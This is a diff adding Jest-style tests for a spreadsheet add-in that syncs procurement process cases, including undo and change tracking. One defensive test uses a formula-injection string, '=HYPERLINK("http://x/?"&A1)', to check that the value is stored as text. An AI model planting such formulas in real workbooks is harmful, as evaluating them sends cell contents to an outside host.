@@ -1,0 +1,240 @@
+import { NOW, readRecords, registerIn, template } from "../testing/sim-fixture";
+import { DEFAULT_BLOCK_CELLS } from "../register/read-register";
+import { syncProcess } from "./run-sync";
+import { undoLastSync } from "./undo";
+import { reconcileStatuses } from "../tracking/change-tracking";
+import { documentStore, stateKey } from "../store/process-store";
+import { isProcessState } from "./journal";
+
+const LATER = "2026-03-03T10:00:00";
+const noSleep = { run: { sleep: async () => undefined } };
+
+async function history(binding: {
+  historyTableName: string;
+}): Promise<Record<string, string | number | boolean>[]> {
+  return (await readRecords(binding.historyTableName)).filter((r) => r["Case ID"] !== "");
+}
+
+describe("sync in a workbook (process-format.md §3 through Excel)", () => {
+  it("numbers, starts, routes and dates the sample cases; appends History; writes only changed cells", async () => {
+    const { sim, binding } = await registerIn(template("procurement"));
+    try {
+      sim.resetCounters();
+      const r = await syncProcess({ binding, now: NOW, ...noSleep });
+      if (!r.ok) throw new Error(r.error.message);
+      const c = sim.counters();
+      expect(r.value.errors).toEqual([]);
+      const rows = await readRecords("PS_procurement");
+      expect(rows.every((row) => /^PR-\d{4}$/.test(String(row["ID"])))).toBe(true);
+      expect(rows.every((row) => row["Step"] !== "" && row["Status"] !== "")).toBe(true);
+      const events = await history(binding);
+      expect(events.length).toBe(r.value.events.length);
+      expect(events.filter((e) => e["Event"] === "created").length).toBe(
+        r.value.events.filter((e) => e.type === "created").length,
+      );
+      // Only changed cells are written: the cells the report lists plus History rows and nothing else.
+      const historyCells = r.value.events.length * 9;
+      expect(c.cellsWritten).toBeLessThanOrEqual(
+        r.value.cellsWritten + historyCells + r.value.changes.length,
+      );
+      expect(r.value.cellsWritten).toBe(r.value.changes.length);
+    } finally {
+      sim.uninstall();
+    }
+  });
+
+  it("stays within 2 + ⌈cells read ÷ block⌉ context.sync calls when 1% of rows change", async () => {
+    const { sim, binding } = await registerIn(template("procurement"));
+    try {
+      await syncProcess({ binding, now: NOW, ...noSleep });
+      // Mark 1 row Done so the next sync moves it on.
+      const rows = await readRecords("PS_procurement");
+      const open = rows.findIndex((row) => row["Status"] === "In progress");
+      sim.setCellByUser("Procurement", `C${open + 2}`, "Done");
+      await sim.settle();
+      sim.resetCounters();
+      const blockCells = 200;
+      const r = await syncProcess({ binding, now: LATER, blockCells, ...noSleep });
+      if (!r.ok) throw new Error(r.error.message);
+      expect(r.value.changedRows).toBeGreaterThanOrEqual(1);
+      const budget = 2 + Math.ceil(r.value.cellsRead / blockCells);
+      expect(sim.counters().syncs).toBeLessThanOrEqual(budget);
+      expect(DEFAULT_BLOCK_CELLS).toBeGreaterThan(blockCells);
+    } finally {
+      sim.uninstall();
+    }
+  });
+
+  it("dry run returns every change with its why trace and writes nothing", async () => {
+    const { sim, binding } = await registerIn(template("procurement"));
+    try {
+      const before = JSON.stringify(sim.dump());
+      sim.resetCounters();
+      const r = await syncProcess({ binding, now: NOW, dryRun: true, ...noSleep });
+      if (!r.ok) throw new Error(r.error.message);
+      expect(r.value.dryRun).toBe(true);
+      expect(r.value.changes.length).toBeGreaterThan(0);
+      expect(r.value.changes[0]).toMatchObject({
+        id: expect.stringMatching(/^PR-/),
+        header: expect.any(String),
+        afterText: expect.any(String),
+      });
+      expect(r.value.traces?.size).toBeGreaterThan(0);
+      expect(sim.counters().cellsWritten).toBe(0);
+      expect(JSON.stringify(sim.dump())).toBe(before);
+    } finally {
+      sim.uninstall();
+    }
+  });
+
+  it("a co-author sorting between read and write makes it read again; every value lands on its own row", async () => {
+    const { sim, binding } = await registerIn(template("procurement"));
+    try {
+      await syncProcess({ binding, now: NOW, ...noSleep });
+      const rows = await readRecords("PS_procurement");
+      const open = rows.findIndex((row) => row["Status"] === "In progress");
+      const movedId = String(rows[open]?.["ID"]);
+      sim.setCellByUser("Procurement", `C${open + 2}`, "Done");
+      await sim.settle();
+      let sorted = false;
+      const r = await syncProcess({
+        binding,
+        now: LATER,
+        onProgress: (p) => {
+          if (p.phase === "rules" && !sorted) {
+            sorted = true;
+            sim.coauthor.sortTable("PS_procurement", "Requester", true);
+          }
+        },
+        ...noSleep,
+      });
+      if (!r.ok) throw new Error(r.error.message);
+      expect(sorted).toBe(true);
+      const after = await readRecords("PS_procurement");
+      const moved = after.find((row) => row["ID"] === movedId);
+      expect(moved?.["Status"]).toBe("To do");
+      // Every row still pairs its ID with its own requester (nothing was written by position).
+      for (const row of rows) {
+        const now = after.find((x) => x["ID"] === row["ID"]);
+        expect(now?.["Requester"]).toBe(row["Requester"]);
+      }
+    } finally {
+      sim.uninstall();
+    }
+  });
+
+  it("a batch failing half-way is finished by the next sync without duplicate History events", async () => {
+    const { sim, binding } = await registerIn(template("procurement"));
+    try {
+      await syncProcess({ binding, now: NOW, ...noSleep });
+      const rows = await readRecords("PS_procurement");
+      const open = rows.findIndex((row) => row["Status"] === "In progress");
+      const caseId = String(rows[open]?.["ID"]);
+      sim.setCellByUser("Procurement", `C${open + 2}`, "Done");
+      await sim.settle();
+      const before = (await history(binding)).length;
+      const failed = await syncProcess({
+        binding,
+        now: LATER,
+        run: { attempts: 1, sleep: async () => undefined },
+        onProgress: (p) => {
+          // After the reads: the next batch is the ID check, the one after it the write; fail its 3rd statement.
+          if (p.phase === "rules" && p.done === 0)
+            sim.betweenSyncs(() => sim.betweenSyncs(() => sim.failAt(2, "GeneralException")));
+        },
+      });
+      expect(failed.ok).toBe(false);
+      expect((await history(binding)).length).toBe(before);
+      const resumed = await syncProcess({ binding, now: "2026-03-04T09:00:00", ...noSleep });
+      if (!resumed.ok) throw new Error(resumed.error.message);
+      const events = await history(binding);
+      const mine = events.filter((e) => e["Case ID"] === caseId).map((e) => String(e["Event"]));
+      expect(mine.filter((t) => t === "advanced" || t === "closed").length).toBe(1);
+      const keys = events.map(
+        (e) => `${String(e["Case ID"])}|${String(e["Event"])}|${String(e["Step"])}|${String(e["Status"])}`,
+      );
+      expect(new Set(keys).size).toBe(keys.length);
+    } finally {
+      sim.uninstall();
+    }
+  });
+
+  it("text that would become a formula is written as text (reliability.md X1)", async () => {
+    const def = template("procurement");
+    const { sim, binding } = await registerIn({
+      ...def,
+      sample: [{ requester: '=HYPERLINK("http://x/?"&A1)', item: "@SUM(1)", amount: 10 }],
+    });
+    try {
+      const r = await syncProcess({ binding, now: NOW, ...noSleep });
+      if (!r.ok) throw new Error(r.error.message);
+      const cells = await Excel.run(async (context) => {
+        const range = context.workbook.tables
+          .getItem("PS_procurement")
+          .getDataBodyRange()
+          .load("values,formulas,valueTypes");
+        await context.sync();
+        return range;
+      });
+      // The check reliability.md X1 asks for: read back, the cell holds the string itself, typed String.
+      const owner = 3;
+      expect(cells.values[0]?.[owner]).toBe('=HYPERLINK("http://x/?"&A1)');
+      expect(cells.formulas[0]?.[owner]).toBe('=HYPERLINK("http://x/?"&A1)');
+      expect(cells.valueTypes[0]?.[owner]).toBe("String");
+      expect(cells.valueTypes.flat()).not.toContain("Error");
+    } finally {
+      sim.uninstall();
+    }
+  });
+});
+
+describe("undo and change tracking", () => {
+  it("undo puts back what the last sync wrote, reports cells changed since, and records itself", async () => {
+    const { sim, binding } = await registerIn(template("procurement"));
+    try {
+      const original = await readRecords("PS_procurement");
+      const r = await syncProcess({ binding, now: NOW, ...noSleep });
+      if (!r.ok) throw new Error(r.error.message);
+      // A person changes one owner the sync wrote; undo must leave it alone.
+      const synced = await readRecords("PS_procurement");
+      const i = synced.findIndex((row, k) => row["Owner"] !== original[k]?.["Owner"]);
+      sim.setCellByUser("Procurement", `D${i + 2}`, "Somebody Else");
+      await sim.settle();
+      const u = await undoLastSync(binding, LATER);
+      if (!u.ok) throw new Error(u.error.message);
+      expect(u.value.conflicts).toEqual([expect.objectContaining({ header: "Owner", now: "Somebody Else" })]);
+      const after = await readRecords("PS_procurement");
+      after.forEach((row, k) => {
+        if (k === i) expect(row["Owner"]).toBe("Somebody Else");
+        else expect(row["Owner"]).toBe(original[k]?.["Owner"]);
+      });
+      const events = await history(binding);
+      expect(events.filter((e) => e["By"] === "undo").length).toBe(u.value.cases);
+      const again = await undoLastSync(binding, LATER);
+      expect(again.ok).toBe(false);
+    } finally {
+      sim.uninstall();
+    }
+  });
+
+  it("status edits people made between syncs become status events, once", async () => {
+    const { sim, binding } = await registerIn(template("procurement"));
+    try {
+      await syncProcess({ binding, now: NOW, ...noSleep });
+      const rows = await readRecords("PS_procurement");
+      const i = rows.findIndex((row) => row["Status"] === "To do");
+      sim.coauthor.editCell("Procurement", `C${i + 2}`, "Blocked");
+      const first = await reconcileStatuses(binding, LATER);
+      if (!first.ok) throw new Error(first.error.message);
+      expect(first.value).toEqual([
+        expect.objectContaining({ caseId: rows[i]?.["ID"], type: "status", status: "blocked" }),
+      ]);
+      const second = await reconcileStatuses(binding, LATER);
+      expect(second.ok && second.value).toEqual([]);
+      const state = await Excel.run(async (context) => documentStore().read(context, stateKey(binding.id)));
+      expect(isProcessState(state) && state.snapshot?.[String(rows[i]?.["ID"])]).toBe("blocked");
+    } finally {
+      sim.uninstall();
+    }
+  });
+});
